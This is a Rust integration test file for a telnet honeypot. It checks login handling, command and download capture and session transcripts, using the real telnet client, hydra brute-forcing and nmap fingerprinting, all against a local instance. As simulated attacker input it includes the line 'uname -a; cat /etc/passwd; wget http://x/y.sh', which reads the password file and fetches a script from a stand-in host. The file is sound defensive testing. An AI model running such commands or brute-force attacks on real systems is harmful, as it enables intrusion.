//! The telnet honeypot against the real `telnet` client (login refused then accepted,
//! commands, a download, the transcript capture), hydra's telnet module with a 20×20
//! list under a `never` policy, and `nmap -sV` naming it a Linux telnetd.

mod shell_common;
mod tools;
use honeybee_proto::config::{LoginPolicy, ServiceKind, TelnetOptions};
use honeybee_proto::event::{AuthMethod, EventKind};
use shell_common::*;
use std::process::Stdio;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

fn telnet(login: LoginPolicy, delay_ms: u32) -> ServiceKind {
    ServiceKind::Telnet(TelnetOptions {
        login,
        auth_failure_delay_ms: delay_ms,
        ..Default::default()
    })
}

/// A `telnet` client process whose output the test reads as it comes.
struct Client {
    child: tokio::process::Child,
    stdin: tokio::process::ChildStdin,
    stdout: tokio::process::ChildStdout,
    seen: Vec<u8>,
}

impl Client {
    fn spawn(port: u16) -> Client {
        let mut child = tokio::process::Command::new("telnet")
            .args(["127.0.0.1", &port.to_string()])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        let stdin = child.stdin.take().unwrap();
        let stdout = child.stdout.take().unwrap();
        Client {
            child,
            stdin,
            stdout,
            seen: Vec::new(),
        }
    }

    /// Reads until the output since `from` holds `what`; returns the new end.
    async fn wait_for(&mut self, from: usize, what: &str) -> usize {
        let deadline = tokio::time::Instant::now() + WAIT;
        loop {
            if let Some(i) =
                String::from_utf8_lossy(&self.seen[from.min(self.seen.len())..]).find(what)
            {
                return from + i + what.len();
            }
            let mut buf = [0u8; 4096];
            let n = tokio::time::timeout_at(deadline, self.stdout.read(&mut buf))
                .await
                .unwrap_or_else(|_| {
                    panic!("no {what:?} in {:?}", String::from_utf8_lossy(&self.seen))
                })
                .unwrap();
            assert!(
                n > 0,
                "client ended before {what:?}: {:?}",
                String::from_utf8_lossy(&self.seen)
            );
            self.seen.extend_from_slice(&buf[..n]);
        }
    }

    async fn send(&mut self, line: &str) {
        self.stdin
            .write_all(format!("{line}\n").as_bytes())
            .await
            .unwrap();
    }
}

#[tokio::test]
async fn telnet_client_logs_in_and_runs_commands() {
    tools::require(&["telnet"]);
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(
        dir.path(),
        &one("telnet", telnet(LoginPolicy::AfterAttempts(1), 50)),
    )
    .await;
    let mut c = Client::spawn(run.addr.port());
    let at = c.wait_for(0, "Debian GNU/Linux 12").await;
    let at = c.wait_for(at, "web-prod-02 login: ").await;
    c.send("root").await;
    let at = c.wait_for(at, "Password: ").await;
    c.send("123456").await;
    let at = c.wait_for(at, "Login incorrect").await;
    let at = c.wait_for(at, "web-prod-02 login: ").await;
    c.send("root").await;
    let at = c.wait_for(at, "Password: ").await;
    c.send("admin").await;
    let at = c.wait_for(at, "root@web-prod-02:~# ").await;
    c.send("uname -a; cat /etc/passwd; wget http://x/y.sh")
        .await;
    let at = c
        .wait_for(at, "wget: unable to resolve host address 'x'")
        .await;
    let at = c.wait_for(at, "root@web-prod-02:~# ").await;
    c.send("cd /tmp && echo hi > f && cat f").await;
    let at = c.wait_for(at, "hi\r\n").await;
    c.send("exit").await;
    c.wait_for(at, "logout").await;
    let status = tokio::time::timeout(WAIT, c.child.wait())
        .await
        .expect("telnet ends")
        .unwrap();
    let shown = String::from_utf8_lossy(&c.seen).into_owned();
    // The password is never echoed.
    assert!(
        !shown.contains("123456") && !shown.contains("admin"),
        "{shown}"
    );
    assert!(
        shown.contains("Linux web-prod-02 6.1.0-18-amd64"),
        "{shown}"
    );
    let _ = status;

    let ev = until_disconnect(&mut run.rx).await;
    let a = attempts(&ev);
    assert_eq!(a.len(), 2, "{a:?}");
    assert!(
        a.iter()
            .all(|x| x.method == AuthMethod::Password && x.username == "root")
    );
    assert_eq!(
        (a[0].password.as_deref(), a[0].success),
        (Some("123456"), false)
    );
    assert_eq!(
        (a[1].password.as_deref(), a[1].success),
        (Some("admin"), true)
    );
    assert_eq!(
        commands(&ev),
        vec![
            "uname -a; cat /etc/passwd; wget http://x/y.sh",
            "cd /tmp && echo hi > f && cat f",
            "exit"
        ]
    );
    assert_eq!(
        downloads(&ev),
        vec![("http://x/y.sh".to_owned(), "wget".to_owned())]
    );
    assert!(
        ev.iter()
            .any(|e| matches!(&e.kind, EventKind::Capture { kind, .. } if kind == "transcript"))
    );
    let t = transcripts(&run.spool);
    assert_eq!(t.len(), 1);
    let cast = Cast::parse(&t[0].1);
    let input = cast.stream("i");
    assert!(
        input.contains("uname -a; cat /etc/passwd; wget http://x/y.sh"),
        "{input:?}"
    );
    let output = cast.stream("o");
    assert!(
        output.contains("root:x:0:0:root:/root:/bin/bash"),
        "{output}"
    );
    assert!(
        output.contains("wget: unable to resolve host address 'x'"),
        "{output}"
    );
    assert!(!output.contains("123456"));
    run.mgr.shutdown().await;
}

#[tokio::test]
async fn hydra_telnet_every_attempt_recorded_once() {
    tools::require(&["hydra"]);
    let dir = tempfile::tempdir().unwrap();
    // hydra 9.4 loses pairs on a connection that survives a failure: after "Login
    // incorrect" and a new "login:" it sends an empty name, takes the prompt that
    // answers it as the verdict on its next pair and never sends that password (half its
    // "tries" never reach any telnetd). A server that hangs up after each failure, as
    // many embedded telnetds do, gets every pair.
    let kind = ServiceKind::Telnet(TelnetOptions {
        login: LoginPolicy::Never,
        auth_failure_delay_ms: 10,
        max_auth_attempts: 1,
        ..Default::default()
    });
    let mut run = start(dir.path(), &one("telnet", kind)).await;
    let out = hydra(dir.path(), "telnet", run.addr.port()).await;
    tools::assert_hydra_finished(
        out.status.success(),
        &String::from_utf8_lossy(&out.stdout),
        &String::from_utf8_lossy(&out.stderr),
    );
    let (_, _, pairs) = hydra_lists(dir.path());
    let mut seen: Vec<(String, String)> = Vec::new();
    while let Ok(Some(e)) = tokio::time::timeout(Duration::from_secs(3), run.rx.recv()).await {
        if let EventKind::AuthAttempt(a) = e.kind {
            assert!(!a.success);
            seen.push((a.username, a.password.unwrap_or_default()));
        }
    }
    seen.sort();
    let mut want = pairs;
    want.sort();
    assert_eq!(
        seen.len(),
        400,
        "every attempt exactly once: {} {}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(seen, want);
    // No login succeeded, so no transcript was kept.
    assert!(transcripts(&run.spool).is_empty());
    // Still serving: a new connection gets the option requests.
    let mut s = tokio::net::TcpStream::connect(run.addr).await.unwrap();
    let mut probe = [0u8; 12];
    tokio::time::timeout(WAIT, s.read_exact(&mut probe))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(probe[..3], [255, 253, 24]);
    run.mgr.shutdown().await;
}

#[tokio::test]
async fn nmap_names_linux_telnetd() {
    tools::require(&["nmap"]);
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(dir.path(), &one("telnet", telnet(LoginPolicy::Never, 10))).await;
    let (name, product, _) = nmap_service(run.addr.port()).await;
    assert_eq!(
        (name.as_str(), product.as_str()),
        ("telnet", "Linux telnetd")
    );
    run.mgr.shutdown().await;
}
